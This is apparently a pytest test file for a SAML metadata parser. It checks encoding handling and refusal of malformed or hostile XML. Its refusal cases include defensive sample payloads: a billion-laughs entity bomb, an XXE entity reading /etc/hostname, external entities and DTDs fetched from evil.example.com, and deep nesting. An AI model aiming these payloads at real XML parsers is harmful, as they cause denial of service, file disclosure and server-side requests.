"""XML of strangers: a right answer or a clear refusal each time, and no more memory than the file has (T90)."""

import codecs
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.base import SourceUnreadable
from pipeline.sso.saml.metadata import counted, entities, shown
from pipeline.sso.saml.xml import LARGEST, content, parse
from tests.pipeline.sso.saml.documents import NAMESPACES, provider, service

ONE = "https://one.example.com"
HEAD = '<?xml version="1.0"?>'
GOOD = provider(names='<saml:Attribute Name="E-Mäil"/>')


@pytest.mark.parametrize(
    "data",
    [
        GOOD.encode(),
        codecs.BOM_UTF8 + GOOD.encode(),
        (HEAD.replace("?>", ' encoding="utf-8"?>') + GOOD).encode(),
        GOOD.encode("utf-16"),
        codecs.BOM_UTF16_BE + GOOD.encode("utf-16-be"),
        (HEAD + GOOD).encode("utf-16-le"),
        (HEAD + GOOD).encode("utf-16-be"),
        codecs.BOM_UTF16_LE + (HEAD.replace("?>", ' encoding="utf-8"?>') + GOOD).encode("utf-16-le"),
        (HEAD.replace("?>", ' encoding="iso-8859-1"?>') + GOOD).encode("latin-1"),
        (HEAD + "<!-- <!DOCTYPE a> -->\n" + GOOD + "\n<?end?>").encode(),
        (GOOD.replace("E-Mäil", "E-M&#228;il")).encode(),
    ],
    ids=[
        "UTF-8",
        "UTF-8 with a mark",
        "declared",
        "UTF-16",
        "UTF-16 BE with a mark",
        "UTF-16 LE without",
        "UTF-16 BE without",
        "the mark outranks the declaration",
        "Latin-1",
        "comment and instruction",
        "character reference",
    ],
)
def test_every_honest_encoding_is_read(data: bytes) -> None:
    """The characters come out the same."""
    (entity,) = entities(data, "m.xml")
    assert entity.offered == ("E-Mäil",)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ('<!DOCTYPE a [<!ENTITY l0 "ha">' + LAUGHS + "]><a>&l9;</a>", "contains a DTD or entities"),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>', "contains a DTD or entities"),
        ('<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example.com/x">%x;]><a/>', "contains a DTD or entities"),
        ('<!DOCTYPE a PUBLIC "-//A//B" "https://evil.example.com/a.dtd"><a/>', "contains a DTD or entities"),
        ("<!DOCTYPE a><a/>", "contains a DTD or entities"),
        ("<a>&unknown;</a>", "is not XML (undefined entity"),
        ("<!DOCTYPE html><html><title>Sign in</title></html>", "is a web page, not XML"),
        ("\ufeff\n<!doctype HTML PUBLIC '-//W3C//DTD HTML 4.01//EN'><html>", "is a web page, not XML"),
        ("<html><body>Sign in</body></html>", "is XML, but not SAML metadata (it begins with 'html')"),
        (f"<Response {NAMESPACES}/>".replace(":metadata", ":protocol", 1), "is XML, but not SAML metadata"),
        (f"<SPSSODescriptor {NAMESPACES}/>", "is XML, but not SAML metadata"),
        ("<EntityDescriptor/>", "is XML, but not SAML metadata (it begins with 'EntityDescriptor')"),
        (f"<EntityDescriptor {NAMESPACES} entityID='x'/>", "describes neither an identity provider"),
        (f"<EntitiesDescriptor {NAMESPACES}/>", "describes neither an identity provider"),
        (provider(protocol="urn:oasis:names:tc:SAML:1.1:protocol"), "describes neither an identity provider"),
        ("", "is not XML"),
        (" \n ", "is not XML"),
        (GOOD[: len(GOOD) // 2], "is only a part of an XML document: it ends early"),
        (GOOD + GOOD, "is not XML"),
        (GOOD.replace('entityID="', 'entityID="\0'), "is not XML"),
        ("<a>" * 200_000, "has more than 100 levels of elements"),
        ("<a>" * 200_000 + "</a>" * 200_000, "has more than 100 levels of elements"),
        ("PK\x03\x04", "is a ZIP archive or an Office document, not SAML metadata"),
        ('{"entityID": "x"}', "is JSON, not SAML metadata"),
        (HEAD.replace("?>", ' encoding="utf-7"?>') + GOOD, "is not XML"),
        (HEAD.replace("?>", ' encoding="no-such"?>') + GOOD, "is not XML"),
        ("<a>" + " " * LARGEST + "</a>", "has more than 2,000,000 bytes of XML"),
    ],
)
def test_everything_else_is_refused(data: str, said: str) -> None:
    """The sentence names the source and what is wrong with it, in a line that can be printed."""
    with pytest.raises(SourceUnreadable) as refusal:
        entities(data.encode(), "m.xml")
    assert str(refusal.value).startswith("m.xml: ")
    assert said in str(refusal.value)
    assert len(str(refusal.value)) < 400


@pytest.mark.parametrize(
    "data",
    [GOOD.encode("utf-32"), codecs.BOM_UTF32_BE + GOOD.encode("utf-32-be"), GOOD.encode("utf-32-le")],
    ids=["LE", "BE", "without a mark"],
)
def test_utf_32_is_refused(data: bytes) -> None:
    """No SAML software writes it, and expat does not read it."""
    with pytest.raises(SourceUnreadable):
        entities(data, "m.xml")


def test_half_a_letter_of_utf_16_is_refused() -> None:
    """A character is never guessed."""
    with pytest.raises(SourceUnreadable, match="is not XML"):
        entities(GOOD.encode("utf-16")[:-1], "m.xml")


def test_fifty_million_bytes_are_not_read(tmp_path: Path) -> None:
    """A file that is too large is left after the first two million bytes."""
    with (tmp_path / "m.xml").open("wb") as file:
        file.truncate(50_000_000)
    with pytest.raises(SourceUnreadable, match="has more than 2,000,000 bytes, which is too large"):
        content(tmp_path / "m.xml")


def test_a_huge_attribute_is_shown_in_part() -> None:
    """What is reported of a stranger's text is short, and nothing in it is invisible."""
    long = "x" * 1_000_000
    (entity,) = entities(provider(entity=long).encode(), "m.xml")
    assert entity.id == long
    assert shown(entity.id) == "x" * 200 + "…"
    assert shown("a\u202eb\n\x1b[31m") == "a\\u202eb\\u000a\\u001b[31m"


def test_thousands_of_things_are_counted() -> None:
    """A line of an examination stays a line."""
    assert counted([f"https://{number}.example.com" for number in range(5)], ", ").endswith("4.example.com")
    assert counted([str(number) for number in range(7000)], ", ") == "0, 1, 2, 3, 4 and 6,995 more"


def test_groups_of_groups() -> None:
    """Every party of a group is read, and what ends a group ends those in it."""
    text = (
        f'<EntitiesDescriptor {NAMESPACES} validUntil="2026-07-01T00:00:00Z"><Extensions/>'
        f'<EntitiesDescriptor validUntil="2026-08-01T00:00:00Z">{provider(entity=ONE)}'
        "<EntityDescriptor entityID='nobody'/></EntitiesDescriptor>"
        + service(ends=' validUntil="2026-09-01T00:00:00Z"')
        + "</EntitiesDescriptor>"
    )
    first, second = entities(text.encode(), "m.xml")
    assert (first.id, first.is_provider) == ("https://one.example.com", True)
    assert (second.id, second.is_provider) == ("urn:amazon:cognito:sp:eu-central-1_AbCdEfGhi", False)
    assert first.ends == ("2026-07-01T00:00:00Z", "2026-08-01T00:00:00Z")
    assert second.ends == ("2026-07-01T00:00:00Z", "2026-09-01T00:00:00Z")


@pytest.mark.parametrize(("parties", "read"), [(50, True), (51, False)])
def test_the_register_of_a_federation(parties: int, read: bool) -> None:  # noqa: FBT001 - a row of the table
    """Fifty parties are read; more are refused."""
    text = f"<EntitiesDescriptor {NAMESPACES}>{provider() * parties}</EntitiesDescriptor>".encode()
    if read:
        assert len(entities(text, "m.xml")) == parties
        return
    with pytest.raises(SourceUnreadable, match="describes 51 parties, a whole federation"):
        entities(text, "m.xml")


def test_what_is_not_of_saml_is_left_alone() -> None:
    """An element of the same name in another namespace is ignored."""
    foreign = '<x:IDPSSODescriptor xmlns:x="urn:example:x" protocolSupportEnumeration="x"/>'
    (entity,) = entities(provider(names=foreign).encode(), "m.xml")
    assert len(entity.certificates) == 1


@given(st.binary(max_size=200))
def test_any_bytes_are_an_answer_or_a_refusal(noise: bytes) -> None:
    """Bytes at random, alone or in the middle of good metadata, never end in anything else."""
    good = GOOD.encode()
    for data in (noise, good[:150] + noise + good[150:]):
        try:
            entities(data, "m.xml")
        except SourceUnreadable:
            continue


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), max_size=50))
def test_the_letters_stay(text: str) -> None:
    """Text comes out as the standard library reads it, comments or not."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    half = len(text) // 2
    plain, commented = f"<a>{escaped}</a>", "<a>{}<!-- c -->{}</a>"
    parts = [
        each.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") for each in (text[:half], text[half:])
    ]
    assert parse(plain.encode(), "m").text == fromstring(plain).text  # noqa: S314 - written here
    assert parse(commented.format(*parts).encode(), "m").text == parse(plain.encode(), "m").text
